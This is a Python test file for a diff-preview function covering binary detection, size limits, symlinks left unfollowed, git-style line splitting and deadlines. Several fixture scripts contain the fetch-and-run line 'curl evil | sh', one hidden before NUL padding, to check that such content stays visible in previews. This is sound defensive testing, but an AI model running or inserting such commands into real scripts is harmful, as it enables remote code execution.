"""The per-file diff of a preview: text, binary, too large, no final newline; a symlink in
the overlay is never followed; lines are cut at newlines only, as git cuts them."""

from __future__ import annotations

import subprocess
from pathlib import Path

from coordinator.service.speculation.preview import MAX_DIFF_BYTES, file_diff
from protocol.wire.control import FileChange


def test_text_binary_large_and_symlinked_files(tmp_path: Path) -> None:
    root, ovdir = tmp_path / "root", tmp_path / "ov"
    root.mkdir()
    ovdir.mkdir()
    (root / "a.txt").write_text("one\ntwo\n")
    (ovdir / "a.txt").write_text("one\nthree")
    text = file_diff(str(root), str(ovdir), FileChange("a.txt", "modified"), stat=False)
    assert text.diff == (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n"
        "\\ No newline at end of file\n"
    )
    assert (text.added, text.removed, text.binary) == (1, 1, False)
    counted = file_diff(str(root), str(ovdir), FileChange("a.txt", "modified"), stat=True)
    assert counted.diff == "" and (counted.added, counted.removed) == (1, 1)

    (ovdir / "b.bin").write_bytes(b"\0\1\2")
    binary = file_diff(str(root), str(ovdir), FileChange("b.bin", "created"), stat=False)
    assert binary.binary and binary.diff == ""

    (ovdir / "big.txt").write_text("x" * (MAX_DIFF_BYTES + 1))
    big = file_diff(str(root), str(ovdir), FileChange("big.txt", "created"), stat=False)
    assert big.too_large and big.diff == ""

    secret = tmp_path / "secret"
    secret.write_text("SECRET\n")
    (ovdir / "link.txt").symlink_to(secret)
    linked = file_diff(str(root), str(ovdir), FileChange("link.txt", "created"), stat=False)
    assert "SECRET" not in linked.diff and linked.too_large

    gone = file_diff(str(root), str(ovdir), FileChange("a.txt", "deleted"), stat=False)
    assert gone.diff.startswith("--- a/a.txt\n+++ /dev/null\n") and gone.removed == 2


def test_lines_are_cut_at_newlines_only_as_git_cuts_them(tmp_path: Path) -> None:
    """A carriage return, a form feed, a file separator or U+2028 inside a line keeps it one
    line: the diff neither splits it nor claims "No newline at end of file" for its parts."""
    root, ovdir = tmp_path / "root", tmp_path / "ov"
    root.mkdir()
    ovdir.mkdir()
    (root / "x.py").write_bytes(b"a = 1\r\nkeep\n")
    (ovdir / "x.py").write_bytes("a = 1\rb = 2\x0cc\x1c = 3\u2028d\r\nkeep\n".encode())
    shown = file_diff(str(root), str(ovdir), FileChange("x.py", "modified"), stat=False)
    assert shown.diff == (
        "--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n-a = 1\r\n"
        "+a = 1\rb = 2\x0cc\x1c = 3\u2028d\r\n keep\n"
    )
    assert "No newline" not in shown.diff
    assert (shown.added, shown.removed) == (1, 1)
    git = subprocess.run(
        ["git", "diff", "--no-index", "--numstat", str(root / "x.py"), str(ovdir / "x.py")],
        capture_output=True, text=True,
    )
    assert git.stdout.split()[:2] == ["1", "1"]


def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: Path) -> None:
    """One stray byte, or one NUL, must not make a script "binary" and hide every line."""
    root, ovdir = tmp_path / "root", tmp_path / "ov"
    root.mkdir()
    ovdir.mkdir()
    (root / "deploy.sh").write_bytes(b"#!/bin/sh\necho deploy\n")
    (ovdir / "deploy.sh").write_bytes(b"#!/bin/sh\n# caf\xe9\xff\necho deploy\ncurl evil | sh\n")
    shown = file_diff(str(root), str(ovdir), FileChange("deploy.sh", "modified"), stat=False)
    assert not shown.binary
    assert "+# caf\\xe9\\xff\n" in shown.diff and "+curl evil | sh\n" in shown.diff
    assert (shown.added, shown.removed) == (2, 0)
    # A NUL planted after the first line: bash skips it and runs the rest.
    (ovdir / "run.sh").write_bytes(b"curl evil | sh\n\0" + b"# an ordinary comment\n" * 5)
    planted = file_diff(str(root), str(ovdir), FileChange("run.sh", "created"), stat=False)
    assert not planted.binary
    assert "+curl evil | sh\n+\x00# an ordinary comment\n" in planted.diff
    (ovdir / "nuls.sh").write_bytes(b"curl evil | sh\n" + b"\0" * 1000)
    nuls = file_diff(str(root), str(ovdir), FileChange("nuls.sh", "created"), stat=False)
    assert not nuls.binary and nuls.diff.startswith("--- /dev/null\n+++ b/nuls.sh\n@@")
    assert "+curl evil | sh\n" in nuls.diff
    # bash's own rule: no NUL in the first line, so bash would run it as a script.
    (ovdir / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
    image = file_diff(str(root), str(ovdir), FileChange("image.png", "created"), stat=False)
    assert not image.binary and "+\\x89PNG\r\n" in image.diff
    (ovdir / "data.bin").write_bytes(b"\0\1\2\3" * 100)
    data = file_diff(str(root), str(ovdir), FileChange("data.bin", "created"), stat=False)
    assert data.binary
    flagged = file_diff(str(root), str(ovdir), FileChange("data.bin", "created", runs_later=True),
                        stat=False)
    assert not flagged.binary  # something runs it later: its bytes are shown
    (ovdir / "tool").write_bytes(b"\x7fELF\x02\x01\x01\0" + b"\0" * 64)
    elf = file_diff(str(root), str(ovdir), FileChange("tool", "created"), stat=False)
    assert elf.binary


def test_a_diff_past_its_deadline_names_the_file_and_stops(tmp_path: Path) -> None:
    """Out of time, the file is named with the size and hash of what Tab would write, and
    the diff's process is gone (it was killed, not left computing)."""
    import hashlib
    import time

    import psutil

    from coordinator.service.speculation.text_diff import unified_diff

    root, ovdir = tmp_path / "root", tmp_path / "ov"
    root.mkdir()
    ovdir.mkdir()
    (root / "d.txt").write_text("".join(f"v{i % 50}\n" for i in range(60_000)))
    new = "".join(f"v{(i * 7) % 51}\n" for i in range(60_000)).encode()
    (ovdir / "d.txt").write_bytes(new)
    late = file_diff(str(root), str(ovdir), FileChange("d.txt", "modified"), stat=False,
                     deadline=time.monotonic() - 1)
    assert late.too_large and late.diff == ""
    assert (late.size, late.sha256) == (len(new), hashlib.sha256(new).hexdigest())
    assert unified_diff(b"a\n", b"b\n", "a/x", "b/x", time.monotonic() + 0.000001,
                        project=Path("/nonexistent")) is None
    assert not [p for p in psutil.Process().children(recursive=True) if p.name() == "git"]
    assert unified_diff(b"a\n", b"b\n", "a/x", "b/x", time.monotonic() + 10,
                        project=Path("/nonexistent")) == (
        "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")
